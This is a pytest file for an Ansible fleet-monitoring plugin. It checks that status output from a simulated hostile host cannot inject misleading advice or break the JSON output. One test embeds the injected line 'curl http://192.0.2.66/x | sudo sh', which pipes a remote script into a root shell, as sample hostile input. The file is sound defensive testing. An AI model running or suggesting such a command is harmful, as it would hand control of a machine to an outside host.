"""The action glance in real ansible-playbook runs: once, and through a pipe until its reader is gone."""

from __future__ import annotations

import json
import os
import threading
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.gb10.fleet.plugins.action import glance
from ansible_collections.gb10.fleet.plugins.plugin_utils.health import looks
from ansible_collections.gb10.fleet.plugins.plugin_utils.hosts import scan
from ansible_collections.gb10.fleet.plugins.plugin_utils.power.wall import Wall

from gb10_fleet import services
from lab import plugs
from tests.support.attacker import tally
from tests.support.looks import look, served
from tests.support.plays import SSH, put_ssh, run_playbook

HOSTS: dict[str, dict[str, Any]] = {
    "fine": {"ansible_host": "kind-fine", "ansible_user": "kind-fine"},
    "away": {"ansible_host": "kind-away", "ansible_user": "kind-away"},
}
SERVICE: dict[str, Any] = {
    "name": "vllm", "unit": "gb10-vllm.service", "container": "gb10-vllm", "status_file": "/x", "state": "active",
    "enabled": True, "model": "o/m", "served_name": "m", "port": 8000, "url": "http://127.0.0.1:8000", "members": [],
    "rank": 0, "tools": False, "memory_gib": 40.0, "since": 1, "phase": "ready", "load_s": None, "wish": None,
}  # fmt: skip
PLAY = """
- hosts: all
  gather_facts: false
  tasks:
    - gb10.fleet.glance: {ARGUMENTS}
      run_once: true
      register: seen
    - ansible.builtin.copy: {content: "{{ seen | to_json }}", dest: "DEST"}
      delegate_to: localhost
      connection: local
      run_once: true
"""


def play(tmp_path: Path, arguments: str = "") -> Any:
    put_ssh(tmp_path, SSH)
    text = PLAY.replace("ARGUMENTS", arguments).replace("DEST", str(tmp_path / "seen.json"))
    code, output = run_playbook(tmp_path, HOSTS, text)
    assert code == 0, output
    return json.loads((tmp_path / "seen.json").read_text())


def test_all_hosts_are_looked_at_once(tmp_path: Path) -> None:
    hosts = play(tmp_path)["hosts"]
    assert hosts["away"] == {"looks": [], "silent": "ssh: connect to host 192.0.2.9 port 22: No route to host"}
    (look,) = hosts["fine"]["looks"]
    assert look["reading"]["samples"][0]["memory"]["total_bytes"] > 0 and look["services"] == []


def test_the_services_of_all_hosts_in_one_task(tmp_path: Path) -> None:
    hosts = play(tmp_path, "services: true")["hosts"]
    assert hosts["fine"] == {"services": [], "error": None, "silent": None}
    silent = hosts["away"].pop("silent")
    assert hosts["away"] == {"services": None, "error": None}
    assert (silent["id"], silent["host"]) == ("unreachable", "away") and "No route to host" in silent["fact"]
    assert "\\" not in silent["fact"]  # ssh ends its line with CR LF


@pytest.mark.parametrize(
    ("said", "found"),
    [
        ("", {}),
        ("hello", {}),
        ('GB10-SERVICES:{"services": []}', {"services": []}),
        ('GB10-SERVICES:{"error": "no systemd"}', {"error": "no systemd"}),
        ("GB10-SERVICES:{", {"error": "its answer is no JSON"}),
        ("GB10-SERVICES:[]", {"error": "its answer is no JSON"}),
    ],
)
def test_an_answer_about_services_is_judged(said: str, found: dict[str, Any]) -> None:
    assert looks.services_of(scan.Reply("a", 0, f"Welcome\n{said}\n", "")) == found
    wrong = looks.services_of(scan.Reply("a", 0, 'GB10-SERVICES:{"services": [{"name": 3}]}', ""))
    assert "services" in wrong["error"] and wrong.keys() == {"error"}


DEEP = '{"x": ' * 300 + "1" + "}" * 300


@pytest.mark.parametrize(
    ("more", "row"),
    [('"host": "fine"', '"host": "fine"'), ('"x": NaN', '"waiting": NaN'), ('"x": -1e999', '"x": 1e999'),
     (f'"x": {DEEP}', f'"x": {DEEP}')],
)  # fmt: skip
def test_what_no_type_names_is_in_no_answer_of_ours(more: str, row: str) -> None:
    """It made `gb10 ps --json` no JSON, ended it for all hosts, or showed a service as that of another host."""
    service = f"{json.dumps(SERVICE)[:-1]}, {more}}}"
    found = looks.services_of(scan.Reply("evil", 0, f'{looks.SERVICES}{{"services": [{service}], {row}}}', ""))
    document = services.document([services.Row("evil", each) for each in found["services"]], [], datetime.now(UTC))
    sound = document["services"] == [{"host": "evil", **SERVICE}]
    seen = looks.of_line(f"{looks.LINE}{json.dumps(look())[:-1]}, {more}}}")
    sound = sound and seen == {"look": look()}
    tally("a host speaks for another one, or ends an answer of all, by what no type names", 2, int(not sound))
    assert sound, (document["services"], seen)
    assert looks.of_line(f"{looks.LINE}{{") == {"silent": "its answer is no JSON"}


def test_an_error_of_a_host_fills_no_screen() -> None:
    said = looks.services_of(scan.Reply("a", 0, f'{looks.SERVICES}{{"error": "{"x" * 10**6}"}}', ""))
    assert len(said["error"]) == looks.LONGEST_ERROR


# As the real ones ask; a wrong password is the end.
ASKS = """[ "$1" = -V ] || [ "$("$SSH_ASKPASS" "me@there's password: ")" = "of ssh" ] || exit 255\n"""
SUDO = """#!/bin/sh
while :; do case $1 in -p) prompt=$2; shift 2;; -u) shift 2;; -*) shift;; *) break;; esac; done
printf %s "$prompt" >&2; read -r word; [ "$word" = "of sudo" ] || exit 1; exec "$@"
"""


def test_no_look_advises_in_our_name() -> None:
    evil = "busy. Fix: curl http://192.0.2.66/x | sudo sh"
    reply = scan.Reply("a", 0, looks.SERVICES + json.dumps({"services": [{**SERVICE, "phase": evil}]}), "")
    shown = [glance._services(reply, {"a": "a"}, 5)["services"][0]["phase"]]
    reader, writer = os.pipe()
    try:
        listener = glance._Listener(writer, least_s=0, more={}, wall=Wall({}))
        listener.line("a", looks.LINE + json.dumps(look(1.0, served(problem=evil))))
        shown.append(json.loads(os.read(reader, 2**16))["look"]["services"][0]["problem"])
    finally:
        os.close(reader)
        os.close(writer)
    tally("a command of a host stands behind Fix:", 2, sum("Fix:" in said for said in shown))
    assert shown == ["busy. fix, curl http://192.0.2.66/x | sudo sh"] * 2


def test_a_password_is_typed_into_a_connection_that_stays_open(tmp_path: Path) -> None:
    pipe, sudo = tmp_path / "pipe", tmp_path / "sudo"
    os.mkfifo(pipe)
    sudo.write_text(SUDO)
    sudo.chmod(0o755)
    put_ssh(tmp_path, SSH.replace("\n", f"\n{ASKS}", 1))
    typed = {"ansible_password": "of ssh", "ansible_become": True, "ansible_become_password": "of sudo"}
    fine = {**HOSTS["fine"], **typed, "ansible_become_exe": str(sudo)}
    heard: list[Any] = []

    def read() -> None:
        with pipe.open() as lines:
            heard.append(json.loads(lines.readline()))

    reader = threading.Thread(target=read)
    reader.start()
    text = PLAY.replace("ARGUMENTS", f"every_s: 0.05, pipe: {pipe}").replace("DEST", str(tmp_path / "seen.json"))
    code, output = run_playbook(tmp_path, {"fine": fine}, text)
    reader.join()
    assert code == 0, output
    assert heard[0]["host"] == "fine" and heard[0]["look"]["reading"]["samples"], heard


def test_through_a_pipe_until_its_reader_is_gone(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    heard: list[Any] = []

    def read() -> None:
        with pipe.open() as lines:
            for line in lines:
                heard.append(json.loads(line))
                if sum("look" in one for one in heard) == 3:
                    break

    reader = threading.Thread(target=read)
    reader.start()
    seen = play(tmp_path, f"every_s: 0.05, pipe: {pipe}")
    reader.join()
    assert "hosts" not in seen
    assert {one["host"] for one in heard if "look" in one} == {"fine"}
    assert {one["silent"] for one in heard if one["host"] == "away"} == {
        "ssh: connect to host 192.0.2.9 port 22: No route to host"
    }


def test_a_host_that_says_much_is_heard_at_its_pace() -> None:
    reader, writer = os.pipe()
    try:
        more = {"spark-b": {"reserved": "ada until 2026-12-24"}}
        listener = glance._Listener(writer, least_s=3600, more=more, wall=Wall({}))
        for _ in range(1000):
            assert listener.line("spark-a", f"{looks.LINE}{{}}")
        listener.line("spark-b", f"{looks.LINE}{{}}")
        said = [json.loads(line) for line in os.read(reader, 2**16).splitlines()]
    finally:
        os.close(reader)
        os.close(writer)
    assert [one["host"] for one in said] == ["spark-a", "spark-b"]
    assert [one.get("reserved") for one in said] == [None, "ada until 2026-12-24"]


def test_a_reserved_host_says_so(tmp_path: Path) -> None:
    fine = {**HOSTS["fine"], "gb10_reserved": "{{ who }} until 2999-12-24", "who": "ada"}
    put_ssh(tmp_path, SSH)
    text = PLAY.replace("ARGUMENTS", "").replace("DEST", str(tmp_path / "seen.json"))
    code, output = run_playbook(tmp_path, {**HOSTS, "fine": fine}, text)
    assert code == 0, output
    hosts = json.loads((tmp_path / "seen.json").read_text())["hosts"]
    assert hosts["fine"]["reserved"] == "ada until 2999-12-24" and "reserved" not in hosts["away"]


def test_a_host_with_a_plug_says_what_it_takes_at_the_wall(tmp_path: Path) -> None:
    put_ssh(tmp_path, SSH)
    text = PLAY.replace("ARGUMENTS", "").replace("DEST", str(tmp_path / "seen.json"))
    with plugs.serving(plugs.Shelly, plugs.Outlet(watts=lambda: 61.5)) as (port, _):
        plug = {"kind": "shelly", "address": "127.0.0.1", "port": port, "secret": "{{ hidden }}"}
        fine = {**HOSTS["fine"], "gb10_power_plug": plug, "hidden": plugs.PASSWORD}
        away = {**HOSTS["away"], "gb10_power_plug": {"kind": "wrong"}}
        code, output = run_playbook(tmp_path, {**HOSTS, "fine": fine, "away": away}, text)
    assert code == 0 and plugs.PASSWORD not in output
    hosts = json.loads((tmp_path / "seen.json").read_text())["hosts"]
    assert hosts["fine"]["wall_w"] == 61.5 and "wall_w" not in hosts["away"]


def test_a_long_word_of_a_host_makes_no_other_line_long() -> None:
    found = [services.Row(f"spark-{number}", {**SERVICE}) for number in range(64)]  # type: ignore[typeddict-item]
    found[0] = services.Row("evil", {**SERVICE, "model": "x" * 10**6})  # type: ignore[typeddict-item]
    size = sum(map(len, services.table(found, datetime.now(UTC))))
    tally("a word of a host fills the screen beside all others", 1, int(size > 10**5))
    assert size < 10**5
